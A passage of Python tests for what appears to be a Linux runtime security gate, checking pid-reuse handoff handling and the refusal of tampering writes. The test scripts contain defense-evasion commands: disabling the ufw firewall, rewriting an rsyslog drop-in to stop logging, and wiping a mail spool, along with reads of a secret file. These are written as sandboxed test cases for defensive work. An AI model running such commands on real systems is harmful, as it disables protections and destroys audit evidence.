    shell = (f'echo $$ > {env.cg}/cgroup.procs && while [ ! -e {go} ]; do sleep 0.02; done; '
             f'{body}')
    return subprocess.Popen(["/bin/sh", "-c", shell], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True), go


def _handoff(pid: int, start_ns: int, reasons: int) -> tuple[bytes, bytes]:
    return (pid.to_bytes(4, "little"),
            bytes(abi.ProvVal(start_ns=start_ns, reasons=reasons, origin_tgid=pid)))


def test_a_stale_handoff_reaches_no_later_holder_of_the_pid(env: Env) -> None:
    """A handoff entry goes stale when the exec after de_thread fails past the point of
    no return (no sched_process_exec to take it).  Attack (the stale entry written as
    prov_exit writes it, under the pid of a clean process that starts later): before,
    the clean process took the old reasons at its first exec and was refused; after, an
    entry is taken only when its start matches the exec'ing process's."""
    assert env.handoff is not None
    p, go = _waiting(env, f"exec cat {env.secret}")
    try:
        k, v = _handoff(p.pid, _start_ns(p.pid) - 5_000_000_000, abi.PROV_DECODED_PAYLOAD)
        env.handoff.update(k, v)
        go.touch()
        out, err = p.communicate(timeout=TIMEOUT)
        assert p.returncode == 0 and "secret" in out, (out, err)
        assert env.handoff.lookup(k) is None          # taken off at the exec all the same
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
        env.handoff.delete(_handoff(p.pid, 0, 0)[0])


def test_a_handoff_left_behind_goes_with_the_process(env: Env) -> None:
    """A handoff entry whose exec never came (the exec failed after de_thread and the
    process died) is deleted at the process's exit: 1024 of them no longer fill the map."""
    assert env.handoff is not None
    p, go = _waiting(env, "exit 0")
    try:
        k, v = _handoff(p.pid, _start_ns(p.pid), abi.PROV_DECODED_PAYLOAD)
        env.handoff.update(k, v)
        go.touch()
        p.communicate(timeout=TIMEOUT)
        assert env.handoff.lookup(k) is None
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
        env.handoff.delete(_handoff(p.pid, 0, 0)[0])


# Before s23-muststop (main at 73a202c): "security-config" was no kind of the gate
# (apply raised ConfigError), and the append to the firewall config and the drop-in's
# rewrite were not refused (the compat tier killed after, if a rule matched).


def test_security_config_and_a_mail_spool_are_refused_at_the_open(env: Env) -> None:
    """T1562.004 `>> /etc/default/ufw`, a logging drop-in rewritten, T1070.002 `echo 0>`
    of a mail spool: refused at the open for a /tmp script; reading the config and
    appending to the spool (delivery) allowed.  A rename over a config (``sed -i``) is not
    seen by fanotify: that stays a kill after on compat (docs/detection.md)."""
    ufw = env.root / "etc" / "default" / "ufw"
    dropin = env.root / "etc" / "rsyslog.d" / "50-default.conf"
    spool = env.root / "mail" / "root"
    for f, text in ((ufw, "ENABLED=yes\n"), (dropin, "*.* /var/log/syslog\n"),
                    (spool, "From x\nmail 1\n")):
        f.parent.mkdir(parents=True, exist_ok=True)
        f.write_text(text)
    assert env.gate.apply([
        GateObject(str(env.profile), "persistence"), GateObject(str(env.cron), "persistence"),
        GateObject(str(env.secret), "credential"),
        GateObject(str(env.root / "home"), "profile-dir"),
        GateObject(str(ufw), "security-config"),
        GateObject(str(dropin.parent), "security-config"),
        GateObject(str(spool.parent), "log")]) == []
    p = env.script("seccfg.sh", f"echo ENABLED=no >> {ufw}; echo append=$?\n"
                                f"echo '*.* stop' > {dropin}; echo dropin=$?\n"
                                f"cat {ufw} > /dev/null; echo read=$?\n"
                                f"echo 0> {spool}; echo mailwipe=$?\n"
                                f"echo delivered >> {spool}; echo mailappend=$?\n")
    r = env.run(["/bin/sh", str(p)])
    codes = {k: int(v) for k, v in (w.split("=") for w in r.stdout.split())}
    refused = {k for k, v in codes.items() if v != 0}      # dash: 2 for a failed redirection
    assert (refused, set(codes)) == ({"append", "dropin", "mailwipe"}, {
        "append", "dropin", "read", "mailwipe", "mailappend"}), r.stdout + r.stderr
    assert "Operation not permitted" in r.stderr
    assert ufw.read_text() == "ENABLED=yes\n"
    assert dropin.read_text() == "*.* /var/log/syslog\n"
    assert spool.read_text() == "From x\nmail 1\ndelivered\n"
    evs = env.events(3)
    assert sorted((e.action, e.op, e.path) for e in evs) == sorted([
        ("deny", "open-write", str(ufw)), ("deny", "open-write", str(dropin)),
        ("deny", "open-write", str(spool))]), evs
    ds = {d.path: d for d in env.gate.decisions()}
    assert ds[str(ufw)].kind == "security-config" and ds[str(spool)].kind == "log"
    f = env.gate.finding(ds[str(ufw)])
    assert f.action == "deny" and "T1562.004" in f.attack, f
    assert f.evidence["prevented"].startswith("write to security configuration"), f
